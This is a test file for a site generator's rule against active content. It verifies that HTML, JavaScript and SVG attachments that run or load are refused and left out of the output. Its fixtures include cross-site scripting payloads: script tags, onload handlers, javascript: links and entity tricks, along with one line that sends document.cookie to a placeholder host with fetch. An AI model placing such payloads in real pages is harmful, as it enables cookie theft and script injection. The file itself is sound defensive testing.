import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { checkRepository } from "../src/commands/check.js";
import { renderSite } from "../src/render/site.js";
import { copyExamples, edit, lineOf, read, run, tempDir } from "./helpers/repo.js";

const PLAN = "sjobacka/plan-2020.md";
const PAGE = "sjobacka/plan-2020.html";

/** The plan's body gains `markdown` as a paragraph of its own; `files` are written beside the plan, in `sjobacka/bilagor/`. */
function repoWith(markdown: string, files: Record<string, string>): string {
  const repo = copyExamples();
  mkdirSync(join(repo, "sjobacka/bilagor"));
  for (const [name, content] of Object.entries(files)) writeFileSync(join(repo, "sjobacka/bilagor", name), content);
  edit(repo, PLAN, "\nFiktivt exempel.\n", `\nFiktivt exempel.\n\n${markdown}\n`);
  return repo;
}

const SVG_HEAD = `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">\n`;
const svg = (inner: string) => `${SVG_HEAD}${inner}\n</svg>\n`;
/** An SVG as a drawing program writes it: nothing in it runs or loads. */
const CLEAN_SVG = svg(
  [
    `<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>`,
    `<style>rect { fill: url(#g); }</style>`,
    `<rect width="10" height="10" fill="url(#g)"/>`,
    `<use xlink:href="#g"/>`,
    `<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>`,
    `<a href="https://www.sjobacka.se/"><text>Sjöbacka</text></a>`,
  ].join("\n"),
);

describe("attachments a browser would run are refused by plan check at the link (path/active-content)", () => {
  it.each([
    ["sida.html", "<html><script>fetch('https://example.invalid/?' + document.cookie)</script></html>", "it is an HTML page"],
    ["sida.HTM", "<script>alert(1)</script>", "it is an HTML page"],
    ["sida.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>', "it is an HTML page"],
    ["kod.js", "alert(1)", "it is a JavaScript file"],
    ["kod.mjs", "alert(1)", "it is a JavaScript file"],
    ["data.xml", '<?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>', "it is an XML file"],
    ["bild.svgz", "\u001f\u008b", "it is a compressed SVG"],
  ])("a link to %s", async (name, content, reason) => {
    const markdown = `Se [bilagan](bilagor/${name}).`;
    const repo = repoWith(markdown, { [name]: content });
    const { code, stdout } = await run(["check", "."], repo);
    expect(code).toBe(1);
    expect(stdout).toContain(`${PLAN}:${lineOf(repo, PLAN, markdown)}:4: error [path/active-content]`);
    expect(stdout).toContain(`The file \`bilagor/${name}\` is refused: ${reason}`);
    expect(stdout).toContain("fix: Publish it in a form that cannot run");
  });

  it("beside a refused page, a PDF, a CSV and a text file pass: only the page is an error", async () => {
    const markdown = "Se [bilaga 1](bilagor/bilaga.pdf), [data](bilagor/data.csv) och [text](bilagor/las-mig.txt).";
    const repo = repoWith(`${markdown}\n\nOch [sidan](bilagor/sida.html).`, {
      "bilaga.pdf": "%PDF-1.4\n",
      "data.csv": "a;b\n1;2\n",
      "las-mig.txt": "<script>alert(1)</script>",
      "sida.html": "<script>alert(1)</script>",
    });
    const { code, stdout } = await run(["check", "."], repo);
    expect(code).toBe(1);
    expect(stdout.match(/error \[path\/active-content\]/g)).toHaveLength(1);
    expect(stdout).toContain(`${PLAN}:${lineOf(repo, PLAN, "Och [sidan]")}:5: error [path/active-content]`);
  });
});

describe("an SVG is published only when a real XML parse finds nothing that runs or loads", () => {
  it.each([
    ["a script", svg(`<rect width="10" height="10"/>\n<script>fetch("https://example.invalid/")</script>`), "a `<script>` element", 4],
    ["a script in another namespace prefix", svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>`), "a `<script>` element", 3],
    ["an event handler", svg(`<rect width="10" height="10" onload="alert(1)"/>`), "an event handler `onload` on `<rect>`", 3],
    ["a handler on the root", `<svg xmlns="http://www.w3.org/2000/svg"\n  onload="alert(1)"></svg>`, "an event handler `onload` on `<svg>`", 1],
    ["embedded HTML", svg(`<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>`), "a `<foreignObject>` element", 3],
    ["a javascript: link", svg(`<a xlink:href="javascript:alert(1)"><text>x</text></a>`), "a `javascript:` address in `xlink:href`", 3],
    ["an animation that makes a link run", svg(`<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>`), "an `<set>` that changes `href`", 3],
    ["an image from another server", svg(`<image href="https://example.invalid/spion.png" width="10" height="10"/>`), "a reference to `https://example.invalid/spion.png` outside the SVG", 3],
    ["a use of another file", svg(`<use href="annan.svg#figur"/>`), "a reference to `annan.svg#figur` outside the SVG", 3],
    ["a CSS url to another server", svg(`<rect width="10" height="10" style="fill: url('https://example.invalid/f')"/>`), "a reference to `https://example.invalid/f` outside the SVG in `style`", 3],
    ["an @import", svg(`<style>@import "https://example.invalid/s.css";</style>`), "a style sheet that imports another", 3],
    ["an XSLT style sheet", `<?xml-stylesheet type="text/xsl" href="x.xsl"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>`, "an `<?xml-stylesheet?>` instruction", 1],
    ["entity declarations", `<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>\n<svg xmlns="http://www.w3.org/2000/svg"/>`, "a DOCTYPE with declarations", 1],
    ["an entity that brings in a script", `<!DOCTYPE svg [<!ENTITY s "<script>alert(1)</script>">]>\n<svg xmlns="http://www.w3.org/2000/svg">&s;</svg>`, "XML that cannot be read", 2],
    ["XML a browser may read otherwise", `<svg xmlns="http://www.w3.org/2000/svg">\n<rect></svg>`, "XML that cannot be read", 2],
  ])("%s is refused as an image, naming what and where in the SVG", async (_what, content, found, line) => {
    const markdown = "![Diagram](bilagor/diagram.svg)";
    const repo = repoWith(markdown, { "diagram.svg": content });
    const { code, stdout } = await run(["check", "."], repo);
    expect(code).toBe(1);
    expect(stdout).toContain(`${PLAN}:${lineOf(repo, PLAN, markdown)}:1: error [path/active-content]`);
    expect(stdout).toContain(`The image \`bilagor/diagram.svg\` is refused: it holds ${found}`);
    expect(stdout).toMatch(new RegExp(`\\(sjobacka/bilagor/diagram\\.svg:${line}:\\d+\\)`));
    expect(stdout).toContain("fix: Remove it from the SVG");
  });

  it("a plain SVG with gradients, inline images, styles and a link to the web passes; one with a script beside it does not", async () => {
    const repo = repoWith("![Ren](bilagor/ren.svg)\n\n![Diagram](bilagor/diagram.svg)", { "ren.svg": CLEAN_SVG, "diagram.svg": svg("<script>alert(1)</script>") });
    const { code, stdout } = await run(["check", "."], repo);
    expect(code).toBe(1);
    expect(stdout.match(/error \[path\/active-content\]/g)).toHaveLength(1);
    expect(stdout).toContain(`${PLAN}:${lineOf(repo, PLAN, "![Diagram]")}:1: error [path/active-content]`);
  });

  it("plan build refuses it too: nothing is written", async () => {
    const repo = repoWith("![Diagram](bilagor/diagram.svg)", { "diagram.svg": svg("<script>alert(1)</script>") });
    const out = join(tempDir(), "out");
    const { code, stdout, stderr } = await run(["build", ".", "--out", out, "--no-pdf"], repo);
    expect(code).toBe(1);
    expect(stdout + stderr).toContain("[path/active-content]");
    expect(existsSync(join(out, "sjobacka/bilagor/diagram.svg"))).toBe(false);
  });
});

describe("active files are never copied into the output, even when the build was not checked", () => {
  it("the renderer leaves out an HTML attachment and an SVG with a script, and shows their text", () => {
    const repo = repoWith("Se [bilagan](bilagor/sida.html) och ![Diagram](bilagor/diagram.svg) och [ren](bilagor/ren.svg).", {
      "sida.html": "<script>alert(1)</script>",
      "diagram.svg": svg("<script>alert(1)</script>"),
      "ren.svg": CLEAN_SVG,
    });
    // The renderer alone, as a build would call it had `plan check` been skipped.
    const files = renderSite(checkRepository(repo, { cwd: repo }).repo);
    const paths = files.map((f) => f.path);
    expect(paths).not.toContain("sjobacka/bilagor/sida.html");
    expect(paths).not.toContain("sjobacka/bilagor/diagram.svg");
    expect(Buffer.from(files.find((f) => f.path === "sjobacka/bilagor/ren.svg")!.content).toString("utf8")).toBe(CLEAN_SVG);
    const page = Buffer.from(files.find((f) => f.path === PAGE)!.content).toString("utf8");
    expect(page).toContain("Se bilagan och [Bild: Diagram] och");
    expect(page).not.toContain("sida.html");
  });
});
